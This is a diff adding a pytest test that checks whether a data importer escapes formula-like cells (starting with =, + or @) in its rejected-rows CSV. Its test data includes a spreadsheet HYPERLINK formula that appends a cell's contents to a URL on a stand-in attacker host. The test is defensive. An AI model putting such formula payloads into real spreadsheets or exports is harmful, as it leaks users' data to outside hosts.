@@ -224,6 +224,21 @@ class TestImport:
         assert Case.objects.count() == 6
         assert not (tmp_path / "bad2.csv").exists()
 
+    def test_words_of_strangers_are_no_formula_in_the_file_of_bad_rows(self, street, tmp_path):
+        evil = '=HYPERLINK("http://evil.example?"&A1,"看")'
+        rows = [GOOD | {"Detail": evil, "Created": "+gestern"}, GOOD | {"Number": "-5", "Created": "@x"}]
+        bad = tmp_path / "bad.csv"
+        importing(written(tmp_path / "a.csv", rows), the(), bad)
+        with bad.open(encoding="utf-8-sig") as stream:
+            told = list(csv.DictReader(stream))
+        assert not any(cell.startswith(("=", "+", "@")) for row in told for cell in row.values())
+        assert told[0]["Detail"] == f"\t{evil}" and told[1]["Number"] == "-5"
+        for row in told:
+            row["Created"] = GOOD["Created"]
+            del row["line"], row["reason"]
+        assert importing(written(tmp_path / "mended.csv", told), the(), tmp_path / "bad2.csv").imported == 2
+        assert Case.objects.filter(text__contains=evil).exclude(text__contains="\t").exists()
+
     def test_a_unit_that_is_not_here_is_counted(self, street, tmp_path):
         done = importing(written(tmp_path / "a.csv", [GOOD]), the(), tmp_path / "bad.csv")
         assert done.unknown_units == {"市政所": 1}
